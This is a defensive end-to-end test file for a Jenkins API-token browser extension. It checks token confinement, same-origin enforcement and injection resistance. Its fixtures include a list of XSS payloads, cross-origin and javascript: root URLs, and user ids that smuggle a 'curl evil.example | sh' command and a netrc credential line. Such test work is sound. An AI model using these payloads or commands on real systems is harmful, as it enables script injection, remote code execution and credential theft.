// The security promises of SECURITY.md, end to end in Chromium with the built extension:
//  * token confinement: after minting, the token is nowhere but the popup's screen, the clipboard and
//    the one answer that carried it (storage, console, URLs, every request either side saw, the disk);
//  * origin confinement: every request goes to the tab's Jenkins origin; a root or a redirect that
//    points elsewhere is refused and nothing leaves for the other origin;
//  * injection: hostile strings from the server, the page and the user are shown as text, and
//    nothing runs.
// Each check has a positive control (the search finds the token where it must be), so a check that
// silently looks at nothing fails too.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import {
  TOKEN_SHAPE,
  alertText,
  generate,
  launchBrowser,
  logIn,
  noticeText,
  openPopup,
  sharedBrowser,
  shownToken,
  startEmulator,
  withEmulator,
  withPlainSite,
  withPopup,
} from './harness.mjs';

/** Everything the browser reported, for the whole run: console messages, page errors, requests. */
const seen = { console: [], errors: [], requests: [] };

// `storage` only lets this suite read back the storage areas; the shipped extension has none.
const browser = sharedBrowser({ extraPermissions: ['storage'] }, ({ context }) => {
  context.on('console', (message) => seen.console.push({ page: message.page()?.url() ?? '', text: message.text() }));
  context.on('weberror', (error) => seen.errors.push(String(error.error())));
  context.on('request', (request) => seen.requests.push(request));
});

const GENERATE_PATH = 'generateNewToken';

// --- finding a secret in any of the forms it could travel in -------------------------------------

/** The token as text, upper-cased, and base64 at each of the three byte alignments (Basic auth). */
function secretForms(token) {
  const forms = [token, token.toUpperCase()];
  for (let offset = 0; offset < 3; offset += 1) {
    const encoded = Buffer.concat([Buffer.alloc(offset), Buffer.from(token)]).toString('base64');
    // Drop the group that mixes in the prefix and the one that mixes in the padding.
    const stable = encoded.slice(offset === 0 ? 0 : 4, -4);
    forms.push(stable, stable.replace(/\+/g, '-').replace(/\//g, '_'));
  }
  return forms;
}

function holdsSecret(text, token) {
  return secretForms(token).some((form) => String(text).includes(form));
}

/** Every byte of every file below `dir` is searched for the token, as UTF-8 and as UTF-16LE. */
async function filesHolding(dir, token) {
  const needles = [Buffer.from(token), Buffer.from(token, 'utf16le')];
  const found = [];
  let scanned = 0;
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const file = path.join(entry.parentPath ?? entry.path, entry.name);
    let bytes;
    try {
      bytes = await readFile(file);
    } catch {
      continue; // a socket or a file removed meanwhile
    }
    scanned += 1;
    if (needles.some((needle) => bytes.includes(needle))) found.push(path.relative(dir, file));
  }
  return { found, scanned };
}

/** Everything an extension page can read back about itself, as text. */
function dumpExtensionPage(page) {
  return page.evaluate(async () => {
    const area = async (name) => (chrome.storage?.[name] ? chrome.storage[name].get(null) : `no chrome.storage.${name}`);
    const copy = (storage) => Object.fromEntries(Object.keys(storage).map((key) => [key, storage.getItem(key)]));
    return JSON.stringify({
      local: await area('local'),
      session: await area('session'),
      sync: await area('sync'),
      localStorage: copy(localStorage),
      sessionStorage: copy(sessionStorage),
      cookie: document.cookie,
      indexedDB: (await indexedDB.databases()).map((db) => db.name),
      caches: await caches.keys(),
      url: location.href,
      title: document.title,
      history: history.length,
    });
  });
}

function dumpWebPage(page) {
  return page.evaluate(() =>
    JSON.stringify({
      localStorage: { ...localStorage },
      sessionStorage: { ...sessionStorage },
      cookie: document.cookie,
      url: location.href,
      title: document.title,
    }),
  );
}

/** The page that made a request (null for a worker's). */
function pageOf(request) {
  try {
    return request.frame().page();
  } catch {
    return null;
  }
}

async function requestText(request) {
  const headers = await request.allHeaders().catch(() => ({}));
  return `${request.method()} ${request.url()}\n${JSON.stringify(headers)}\n${request.postData() ?? ''}`;
}

// --- token confinement ---------------------------------------------------------------------------

describe('token confinement', () => {
  test('after minting and verifying, the token is only on screen, on the clipboard, in the answer that carried it and in the check', async () => {
    await withEmulator([], async (jenkins) => {
      const firstRequest = seen.requests.length;
      const firstMessage = seen.console.length;
      const tab = await logIn(browser.context, jenkins);
      const popup = await openPopup(browser, tab);
      await generate(popup);
      const token = await shownToken(popup);
      assert.match(token, TOKEN_SHAPE);
      // Positive controls: the console capture works, and the search finds the token where it is.
      await popup.evaluate(() => console.log('console-probe'));
      await popup.waitForTimeout(100);
      assert.ok(seen.console.some((m) => m.text === 'console-probe'), 'console messages are captured');
      assert.ok(holdsSecret(await popup.locator('#token-value').inputValue(), token));
      assert.equal(await popup.evaluate(() => navigator.clipboard.readText()), token, 'copied, by design');
      // The optional check: the one request allowed to carry the token, back to the same Jenkins.
      await popup.getByRole('button', { name: 'Verify' }).click();
      await popup.waitForFunction(() => document.getElementById('action-status').textContent.startsWith('✓'));

      // The emulator: the token is in exactly one answer, the mint's, and in one request, the check
      // (Basic auth to whoAmI, without the session cookie).
      const exchanges = await jenkins.exchanges();
      const carriers = exchanges.filter((e) => e.response && holdsSecret(JSON.stringify(e.response), token));
      assert.deepEqual(carriers.map((e) => `${e.method} ${e.target.split('?')[0]}`), [
        'POST /me/descriptorByName/jenkins.security.ApiTokenProperty/generateNewToken',
      ]);
      const sentBack = exchanges.filter((e) => holdsSecret(JSON.stringify([e.method, e.target, e.headers, e.body]), token));
      assert.deepEqual(sentBack.map((e) => `${e.method} ${e.target}`), ['GET /whoAmI/api/json'], 'only the check sends it');
      assert.ok(!JSON.stringify(sentBack[0].headers).toLowerCase().includes('"cookie"'), 'the check goes without the session');

      // The browser: no request (URL, any header, body) carries it; the popup's requests were seen.
      const requests = seen.requests.slice(firstRequest);
      const popupRequests = requests.filter((r) => pageOf(r) === popup && r.url().startsWith('http'));
      assert.deepEqual(popupRequests.map((r) => `${r.method()} ${new URL(r.url()).pathname}`).sort(), [
        'GET /crumbIssuer/api/json',
        'GET /whoAmI/api/json',
        'GET /whoAmI/api/json',
        `POST /me/descriptorByName/jenkins.security.ApiTokenProperty/${GENERATE_PATH}`,
      ]);
      const carrying = [];
      for (const request of requests) {
        if (holdsSecret(await requestText(request), token)) carrying.push(request);
      }
      assert.deepEqual(carrying.map((r) => `${pageOf(r) === popup ? 'popup' : 'other'} ${r.method()} ${new URL(r.url()).pathname}`), [
        'popup GET /whoAmI/api/json',
      ], 'only the check carried the token');

      // No console message or page error of any page, and no page's URL or title, holds it.
      for (const message of seen.console.slice(firstMessage)) {
        assert.ok(!holdsSecret(message.text, token), `console of ${message.page}: ${message.text}`);
      }
      assert.ok(!seen.errors.some((error) => holdsSecret(error, token)));
      for (const page of browser.context.pages()) {
        assert.ok(!holdsSecret(page.url(), token) && !holdsSecret(await page.title(), token), page.url());
      }

      // Storage: chrome.storage (local, session, sync), localStorage, sessionStorage, IndexedDB, Cache
      // Storage and cookies of the popup; localStorage, sessionStorage and cookies of the Jenkins tab.
      const popupState = await dumpExtensionPage(popup);
      assert.ok(!holdsSecret(popupState, token), popupState);
      const state = JSON.parse(popupState);
      assert.deepEqual([state.local, state.session, state.sync], [{}, {}, {}], 'chrome.storage is empty');
      assert.deepEqual([state.localStorage, state.sessionStorage, state.indexedDB, state.caches], [{}, {}, [], []]);
      assert.ok(!holdsSecret(await dumpWebPage(tab), token));
      assert.ok(!holdsSecret(JSON.stringify(await browser.context.cookies()), token));
      // The one background context is the clipboard-clearing worker, which only ever gets a hash of
      // what was copied, and only once clearing is on (clipboard.test.mjs): here it got nothing.
      const workers = browser.context.serviceWorkers().map((worker) => new URL(worker.url()).pathname);
      assert.ok(workers.every((path) => path === '/background.js'), JSON.stringify(workers));

      // Forgotten when the popup closes: a new popup on the same tab shows a fresh form.
      await popup.close();
      const again = await openPopup(browser, tab);
      assert.ok(!holdsSecret(await again.content(), token));
      assert.equal(await again.locator('#token-value').inputValue(), '');
      assert.ok(!holdsSecret(await dumpExtensionPage(again), token));
      await again.close();

      // The token still works (the verify call: Basic auth from the test, not from the extension).
      assert.equal((await jenkins.whoAmIWith('alice', token)).name, 'alice');
      const verify = (await jenkins.exchanges()).at(-1);
      assert.ok(holdsSecret(JSON.stringify(verify.headers), token), 'the search sees a token in Basic auth');
      await tab.close();
    });
  });

  test('the token was not written to disk: the whole profile is searched once the browser has closed', async () => {
    // A second browser, so that this one can be closed and its profile read without a running Chromium.
    const own = await launchBrowser({ extraPermissions: ['storage'] });
    try {
      await withPopup(own, [], async ({ tab, popup }) => {
        await generate(popup);
        const token = await shownToken(popup);
        assert.match(token, TOKEN_SHAPE);
        // Something the test itself stores must be found: proves the scan reads what Chromium wrote.
        const marker = `11${randomBytes(16).toString('hex')}`;
        await tab.evaluate((marker) => localStorage.setItem('probe', marker), marker);
        await popup.close();
        await own.context.close();
        const { found, scanned } = await filesHolding(own.profile, token);
        assert.ok(scanned > 10, `only ${scanned} files in the profile`);
        assert.deepEqual(found, [], 'files of the profile holding the token');
        assert.ok((await filesHolding(own.profile, marker)).found.length > 0, 'the scan finds what a page stored');
      });
    } finally {
      await own.close();
    }
  });
});

// --- origin confinement --------------------------------------------------------------------------

/** Runs `body(site)` with a plain site whose page names `root` (any string, escaped) as its Jenkins root. */
function withRootUrlSite(root, body) {
  const attribute = root.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  return withPlainSite(`<!doctype html><html><head data-rooturl="${attribute}"></head><body>x</body></html>`, body);
}

/** Requests the browser made to `origin` since `from` (an index into `seen.requests`). */
function requestsTo(origin, from) {
  return seen.requests.slice(from).filter((request) => request.url().startsWith(origin));
}

describe('origin confinement', () => {
  let jenkins;
  let elsewhere;
  before(async () => {
    jenkins = await startEmulator();
    // The other origin is a Jenkins too, where the user is logged in: a request there would be worth
    // something to an attacker.
    elsewhere = await startEmulator();
    await (await logIn(browser.context, elsewhere)).close();
  });
  after(() => {
    jenkins?.stop();
    elsewhere?.stop();
  });

  test('on success, every request the popup made went to the tab\'s origin', async () => {
    const from = seen.requests.length;
    const tab = await logIn(browser.context, jenkins);
    const popup = await openPopup(browser, tab);
    await generate(popup);
    assert.match(await shownToken(popup), TOKEN_SHAPE);
    const fromPopup = seen.requests.slice(from).filter((r) => pageOf(r) === popup);
    const origins = new Set(fromPopup.map((r) => r.url().split('/').slice(0, 3).join('/')));
    assert.deepEqual([...origins].sort(), [`chrome-extension://${browser.extensionId}`, jenkins.origin].sort());
    assert.equal(fromPopup.filter((r) => r.url().startsWith(jenkins.origin)).length, 3);
    await popup.close();
    await tab.close();
  });

  test('a data-rooturl naming another origin, in every spelling: refused, nothing goes there', async () => {
    const other = new URL(elsewhere.origin);
    const roots = [
      elsewhere.root,
      `//${other.host}/`,
      `/\\${other.host}/`,
      `\\\\${other.host}/`,
      `https://${other.host}/`,
      `http://${other.host.replace('127.0.0.1', 'localhost')}/`,
      `HTTP://${other.host}:/x`,
      `http://user@${other.host}/`,
      `javascript:fetch('${elsewhere.root}whoAmI/api/json')`,
      `data:text/html,<p>x</p>`,
      'jenkins',
    ];
    for (const root of roots) {
      await withRootUrlSite(root, async (site) => {
        await elsewhere.control('reset', {});
        const from = seen.requests.length;
        const tab = await browser.context.newPage();
        await tab.goto(`${site.origin}/`);
        const popup = await openPopup(browser, tab);
        assert.match(await alertText(popup), /^This page says its Jenkins is at .+, which is not the site in this tab \(http:\/\/127\.0\.0\.1:\d+\)\. The extension only talks to the site in the tab, so it stopped\.$/, root);
        assert.deepEqual(await elsewhere.requests(), [], `${root}: the other Jenkins was asked`);
        assert.deepEqual(site.requests, ['GET /'], `${root}: the page's own site was asked again`);
        const outgoing = seen.requests.slice(from).filter((r) => pageOf(r) === popup && !r.url().startsWith('chrome-extension:'));
        assert.deepEqual(outgoing.map((r) => r.url()), [], root);
        await popup.close();
        await tab.close();
      });
    }
  });

  test('a Jenkins page that redirects the tab to another site: the root is refused there', async () => {
    await withPlainSite(`<!doctype html><html><head data-rooturl="${jenkins.root}"></head><body>lookalike</body></html>`, async (site) => {
      const tab = await logIn(browser.context, jenkins);
      await jenkins.fault({ method: 'GET', path_contains: 'job/x', mode: 'replace', status: 302, body: '', headers: { Location: `${site.origin}/job/x/` } });
      await tab.goto(`${jenkins.root}job/x/`);
      assert.equal(new URL(tab.url()).origin, site.origin, 'the tab followed the redirect');
      await jenkins.control('reset', {});
      const popup = await openPopup(browser, tab);
      assert.match(await alertText(popup), /^This page says its Jenkins is at http:\/\/127\.0\.0\.1:\d+, which is not the site in this tab/);
      assert.deepEqual(await jenkins.requests(), [], 'nothing went to the Jenkins the page named');
      await popup.close();
      await tab.close();
    });
  });

  const redirects = [
    { what: 'whoAmI', method: 'GET', part: 'whoAmI', status: 302, message: /^Jenkins answered with a redirect while finding out who is logged in\. Redirects aren't followed, so that no request can leave this site\.$/ },
    { what: 'the crumb issuer', method: 'GET', part: 'crumbIssuer', status: 302, message: /^Jenkins answered with a redirect while getting a CSRF crumb\. Redirects aren't followed/ },
    { what: 'generateNewToken (302)', method: 'POST', part: GENERATE_PATH, status: 302, message: /^Jenkins answered with a redirect, which isn't followed\.\nNo token named “.+” was created/ },
    { what: 'generateNewToken (307, which would resend the POST)', method: 'POST', part: GENERATE_PATH, status: 307, message: /^Jenkins answered with a redirect, which isn't followed\.\nNo token named/ },
    { what: 'generateNewToken (308)', method: 'POST', part: GENERATE_PATH, status: 308, message: /^Jenkins answered with a redirect, which isn't followed\.\nNo token named/ },
  ];
  for (const { what, method, part, status, message } of redirects) {
    test(`a ${status} from ${what} to another origin is refused, and nothing goes there`, async () => {
      const tab = await logIn(browser.context, jenkins);
      await elsewhere.control('reset', {});
      const from = seen.requests.length;
      const target = `${elsewhere.root}${method === 'POST' ? `me/descriptorByName/jenkins.security.ApiTokenProperty/${GENERATE_PATH}` : `${part}/api/json`}`;
      const fault = { method, path_contains: part, mode: 'replace', status, body: '', headers: { Location: target } };
      let popup;
      if (method === 'GET') {
        await jenkins.fault(fault);
        popup = await openPopup(browser, tab);
      } else {
        popup = await openPopup(browser, tab);
        await jenkins.fault(fault);
        await generate(popup);
      }
      // A POST's fate is unknown: the notice says so and what the list showed; a GET's refusal is an alert.
      assert.match(method === 'POST' ? (await noticeText(popup)).join('\n') : await alertText(popup), message);
      assert.deepEqual(await elsewhere.requests(), [], 'the other origin was asked');
      // Chromium shows the redirect it refused to follow as an aborted request: never sent.
      for (const attempt of requestsTo(elsewhere.origin, from)) {
        assert.equal(attempt.redirectedFrom()?.url().startsWith(jenkins.origin), true, attempt.url());
        assert.equal(await attempt.response(), null, `${attempt.url()} got an answer`);
        assert.equal(attempt.timing().requestStart, -1, `${attempt.url()} was sent`);
      }
      assert.deepEqual(await elsewhere.tokens('alice'), []);
      assert.ok(
        (await jenkins.requests()).some((r) => r.method === method && r.path.includes(part) && r.status === status && r.fault === 'replace'),
        'the redirect was served',
      );
      await popup.close();
      await tab.close();
    });
  }
});

// --- injection -----------------------------------------------------------------------------------

/** Strings that would run or create elements if any of them reached innerHTML, an href or a template. */
const PAYLOADS = [
  `<img src=x onerror="window.__pwned='img';document.title='pwned'">`,
  `<svg onload="window.__pwned='svg'"></svg>`,
  `<script>window.__pwned='script'</script>`,
  `"><iframe src="javascript:parent.__pwned='iframe'"></iframe>`,
  `javascript:window.__pwned='href'`,
  `<a href="javascript:window.__pwned='a'" id="pwn">x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">`,
  `<style>body{display:none}</style>`,
  `{{constructor.constructor('window.__pwned=1')()}} \${window.__pwned='tpl'}`,
  `&lt;b&gt;entity&lt;/b&gt; &amp; %3Cscript%3E`,
  `\u202egnp.exe <b>rtl</b>`,
];

/** Elements the popup's own UI creates (its templates: list items, snippets); any other tag was made from a string. */
const UI_TAGS = ['A', 'BUTTON', 'DD', 'DETAILS', 'DIV', 'DL', 'DT', 'FORM', 'H2', 'INPUT', 'LABEL', 'LI', 'OPTION', 'P', 'PRE', 'SECTION', 'SELECT', 'SPAN', 'SUMMARY', 'UL'];

/**
 * Installed before the popup's own scripts: records every CSP violation, and every element added
 * once popup.html is parsed (strings from the network can only arrive after that).
 */
function watchPopup() {
  window.__created = [];
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`));
  let parsed = false;
  const observer = new MutationObserver((records) => {
    if (!parsed) return;
    for (const record of records) {
      for (const node of record.addedNodes) {
        if (node.nodeType !== 1) continue;
        window.__created.push(node.tagName);
        for (const inner of node.querySelectorAll('*')) window.__created.push(inner.tagName);
      }
    }
  });
  observer.observe(document, { childList: true, subtree: true });
  document.addEventListener('DOMContentLoaded', () => {
    observer.takeRecords(); // popup.html itself
    parsed = true;
  });
}

let payloadsTried = 0;

/** Nothing ran and no element came from a string; `expected` texts are on screen as typed. */
async function assertInert(popup, expected, label) {
  await popup.waitForTimeout(150); // time for an injected <img> to fail and fire its handler
  const report = await popup.evaluate(() => ({
    pwned: window.__pwned ?? null,
    title: document.title,
    violations: window.__violations,
    created: [...new Set(window.__created)],
    handlers: [...document.querySelectorAll('*')].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on'))),
    scriptLinks: [...document.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? '').filter((href) => !/^https?:/.test(href) && href !== ''),
    text: document.body.innerText,
  }));
  assert.equal(report.pwned, null, `${label}: a payload ran`);
  assert.equal(report.title, 'Jenkins API Token', label);
  assert.deepEqual(report.violations, [], `${label}: the CSP had to block something`);
  assert.deepEqual(report.created.filter((tag) => !UI_TAGS.includes(tag)), [], `${label}: elements made from a string`);
  assert.deepEqual(report.handlers, [], label);
  assert.deepEqual(report.scriptLinks, [], label);
  for (const text of expected) {
    assert.ok(report.text.includes(text), `${label}: ${JSON.stringify(text)} is not shown as text`);
  }
  payloadsTried += 1;
}

describe('injection: hostile strings are shown as text and nothing runs', () => {
  let jenkins;
  before(async () => {
    jenkins = await startEmulator(['--version', '2.555.1']);
  });
  after(() => {
    jenkins?.stop();
    // For the log: how many (payload, place) pairs were tried.
    console.log(`injection: ${payloadsTried} payload placements tried, ${PAYLOADS.length} payloads`);
  });

  async function popupOn(tab) {
    return openPopup(browser, tab, { initScript: watchPopup });
  }

  test('in the user id and full name (a hostile user logs in): the target, the result and the 403 sentence', async () => {
    for (const [index, payload] of PAYLOADS.entries()) {
      const id = `${payload} ${index}`;
      await jenkins.addUser(id, 'pw', `Full ${payload}`);
      const tab = await logIn(browser.context, jenkins, id, 'pw');
      const popup = await popupOn(tab);
      assert.equal(await popup.locator('#jenkins-user').innerText(), id);
      await assertInert(popup, [id], `user id ${index}`);
      await generate(popup);
      assert.match(await shownToken(popup), TOKEN_SHAPE);
      assert.ok((await popup.locator('#result-intro').innerText()).includes(`for ${id}.`));
      await assertInert(popup, [id], `user id ${index}, minted`);
      await popup.close();
      const refused = await popupOn(tab);
      await jenkins.fault({ method: 'POST', path_contains: GENERATE_PATH, mode: 'replace', status: 403, content_type: '', body: '' });
      await generate(refused);
      assert.equal(await alertText(refused), `Jenkins doesn't allow ${id} to create a token here (HTTP 403), so none was created.`);
      await assertInert(refused, [id], `user id ${index}, 403`);
      await refused.close();
      await tab.close();
    }
  });

  test('in the token name the user types: the result, and the sentence when its fate is unknown', async () => {
    const tab = await logIn(browser.context, jenkins);
    for (const [index, payload] of PAYLOADS.entries()) {
      const popup = await popupOn(tab);
      await popup.getByLabel('Token name').fill(payload);
      await generate(popup);
      assert.match(await shownToken(popup), TOKEN_SHAPE);
      await assertInert(popup, [`“${payload.trim()}” for alice.`], `token name ${index}`);
      await popup.close();
      // Another name than the one just made, which the list would show as made seconds ago.
      const uncertain = await popupOn(tab);
      await uncertain.getByLabel('Token name').fill(`${payload} (again)`);
      await jenkins.fault({ method: 'POST', path_contains: GENERATE_PATH, mode: 'replace', status: 500, body: '<html>x</html>' });
      await generate(uncertain);
      await assertInert(uncertain, [`No token named “${payload.trim()} (again)” was created`], `token name ${index}, 500`);
      await uncertain.close();
    }
    const names = (await jenkins.tokens('alice')).map((token) => token.name);
    for (const payload of PAYLOADS) assert.ok(names.includes(payload.trim()), 'Jenkins got the name as data, unchanged');
    await tab.close();
  });

  test('in what Jenkins answers: its refusal message, the token name and expiry it reports, its version header', async () => {
    const tab = await logIn(browser.context, jenkins);
    const json = 'application/json; charset=UTF-8';
    for (const [index, payload] of PAYLOADS.entries()) {
      // {"status":"error","message":…}
      let popup = await popupOn(tab);
      await jenkins.fault({ method: 'POST', path_contains: GENERATE_PATH, mode: 'replace', status: 200, content_type: json, body: JSON.stringify({ status: 'error', message: payload }) });
      await generate(popup);
      // Jenkins' words end the sentence: a full stop is added unless they end with one.
      const stop = /[.!?]$/.test(payload.trim()) ? '' : '.';
      assert.equal(await alertText(popup), `Jenkins didn't create the token: ${payload.trim()}${stop}`);
      await assertInert(popup, [payload], `message ${index}`);
      await popup.close();

      // A minted token whose name and expiry date, as Jenkins reports them, are hostile.
      popup = await popupOn(tab);
      const data = { aboutToExpire: false, tokenName: payload, tokenUuid: 'u', tokenValue: `11${'0123456789abcdef'.repeat(2)}`, expirationDate: payload };
      await jenkins.fault({ method: 'POST', path_contains: GENERATE_PATH, mode: 'replace', status: 200, content_type: json, body: JSON.stringify({ status: 'ok', data }) });
      await generate(popup);
      assert.equal(await shownToken(popup), data.tokenValue);
      await assertInert(popup, [`“${payload}” for alice.`, `Expires on ${payload}.`], `minted ${index}`);
      await popup.close();

      // X-Jenkins is shown as the version (it must start with a version number and is at most 64 characters).
      if (!/^[\x20-\x7e]*$/.test(payload)) continue; // a header value is ASCII
      const version = `2.555.1 ${payload}`.slice(0, 64);
      const whoami = { _class: 'hudson.security.WhoAmI', anonymous: false, authenticated: true, authorities: ['authenticated'], name: 'alice' };
      await jenkins.fault({ method: 'GET', path_contains: 'whoAmI', mode: 'replace', status: 200, content_type: json, body: JSON.stringify(whoami), headers: { 'X-Jenkins': version } });
      popup = await popupOn(tab);
      assert.equal(await popup.locator('#jenkins-version').innerText(), version.trim());
      await assertInert(popup, [version.trim()], `version ${index}`);
      await popup.close();

      // …and for a Jenkins too old for named tokens, which gets the legacy panel.
      const old = `2.100 ${payload}`.slice(0, 64);
      await jenkins.fault({ method: 'GET', path_contains: 'whoAmI', mode: 'replace', status: 200, content_type: json, body: JSON.stringify(whoami), headers: { 'X-Jenkins': old } });
      popup = await popupOn(tab);
      assert.equal(await popup.locator('#legacy').isVisible(), true, 'the legacy path is offered');
      await assertInert(popup, [old.trim()], `legacy version ${index}`);
      await popup.close();
    }
    await tab.close();
  });

  test('in the page: a hostile data-rooturl is named in the refusal, as text', async () => {
    for (const [index, payload] of PAYLOADS.entries()) {
      await withRootUrlSite(payload, async (site) => {
        const tab = await browser.context.newPage();
        await tab.goto(`${site.origin}/`);
        const popup = await popupOn(tab);
        const shown = await alertText(popup);
        assert.match(shown, /^This page says its Jenkins is at /, `root ${index}`);
        await assertInert(popup, [`is at ${payload.trim()}, which`], `root ${index}`);
        assert.deepEqual(site.requests, ['GET /']);
        await popup.close();
        await tab.close();
      });
    }
  });

  test('a user id with control characters (a newline, Ctrl-C, the end of a bracketed paste): refused before any snippet exists', async () => {
    const tab = await logIn(browser.context, jenkins);
    const json = 'application/json; charset=UTF-8';
    for (const id of ['alice\nmachine evil.example login x password y', 'alice\u0003', 'alice\u001b[201~; curl evil.example | sh']) {
      const whoami = { _class: 'hudson.security.WhoAmI', anonymous: false, authenticated: true, authorities: ['authenticated'], name: id };
      await jenkins.fault({ method: 'GET', path_contains: 'whoAmI', mode: 'replace', status: 200, content_type: json, body: JSON.stringify(whoami) });
      const popup = await popupOn(tab);
      assert.equal(
        await alertText(popup),
        "Jenkins' answer couldn't be read while finding out who is logged in: the user id holds control characters, which no tool can take safely.",
      );
      assert.equal(await popup.getByRole('button', { name: 'Generate' }).isVisible(), false);
      assert.equal(await popup.locator('.snippet').count(), 0);
      await popup.close();
    }
    await tab.close();
  });

  test('the checks notice a payload that does reach the DOM as markup (control)', async () => {
    const tab = await logIn(browser.context, jenkins);
    const popup = await popupOn(tab);
    await popup.evaluate((payload) => document.body.insertAdjacentHTML('beforeend', payload), PAYLOADS[0]);
    await assert.rejects(assertInert(popup, [], 'control'), /made from a string|the CSP had to block|a payload ran/);
    await popup.close();
    await tab.close();
  });
});
